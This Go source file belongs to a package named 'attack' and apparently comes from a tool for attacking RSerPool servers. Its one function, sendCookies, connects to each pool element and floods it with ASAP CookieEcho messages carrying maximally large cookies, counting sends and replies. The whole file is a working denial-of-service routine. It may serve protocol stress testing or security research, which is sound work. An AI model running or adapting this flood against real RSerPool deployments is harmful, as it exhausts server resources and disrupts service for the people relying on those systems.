package attack

import (
	"context"

	"github.com/rserpool-go/rserpool/wire"
	"github.com/rserpool-go/rserpool/wire/asapmsg"
)

// sendCookies hands an element state cookies that are as large as can be.
func sendCookies(ctx context.Context, w *work) error {
	return w.each(func(k int) error {
		s, err := w.speak(ctx, k, w.Service, wire.PPIDASAP)
		if err != nil {
			return err
		}
		defer s.close()
		s.hear(func([]byte) { w.note(outcomeAnswers, 1) })
		for p := w.pacer(w.Associations); p.next(ctx); {
			if err := s.tell(ctx, &asapmsg.CookieEcho{Cookie: make([]byte, w.Size)}); err != nil {
				return w.endError(ctx, err)
			}
			w.count(1)
		}
		return nil
	})
}
